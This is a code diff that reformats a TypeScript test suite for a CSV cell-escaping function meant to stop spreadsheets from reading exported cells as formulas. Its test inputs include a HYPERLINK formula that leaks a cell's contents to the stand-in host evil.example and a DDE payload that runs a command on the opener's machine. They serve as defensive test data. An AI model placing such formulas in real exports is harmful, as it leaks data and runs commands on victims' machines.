@@ -3,8 +3,11 @@ import { csvCell, csvRow } from './csv';
 
 describe('csvCell: a spreadsheet never reads a cell the product writes as a formula', () => {
   it.each([
-    ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`],
-    ['@SUM(1+1)*cmd|\' /C calc\'!A0', `'@SUM(1+1)*cmd|' /C calc'!A0`],
+    [
+      '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`,
+    ],
+    ["@SUM(1+1)*cmd|' /C calc'!A0", `'@SUM(1+1)*cmd|' /C calc'!A0`],
     ['+1+cmd', `'+1+cmd`],
     ['-2+3', `'-2+3`],
     ['\t=1+1', `'\t=1+1`],
@@ -16,12 +19,19 @@ describe('csvCell: a spreadsheet never reads a cell the product writes as a form
     expect(csvCell(text)).toBe(written);
   });
 
-  it.each(['-12.50', '+7', '-0.05', '12', '1.500', '-.5', '2026-01-08T09:30:00.000Z', '-002026-01-08', '+002026-01-08T09:30:00Z'])(
-    'leaves a number or an ISO time as it is: %j',
-    (text) => {
-      expect(csvCell(text)).toBe(text);
-    },
-  );
+  it.each([
+    '-12.50',
+    '+7',
+    '-0.05',
+    '12',
+    '1.500',
+    '-.5',
+    '2026-01-08T09:30:00.000Z',
+    '-002026-01-08',
+    '+002026-01-08T09:30:00Z',
+  ])('leaves a number or an ISO time as it is: %j', (text) => {
+    expect(csvCell(text)).toBe(text);
+  });
 
   it('leaves ordinary text alone and quotes it by RFC 4180 only when it must', () => {
     expect(csvCell('OP-CHG-88120931')).toBe('OP-CHG-88120931');
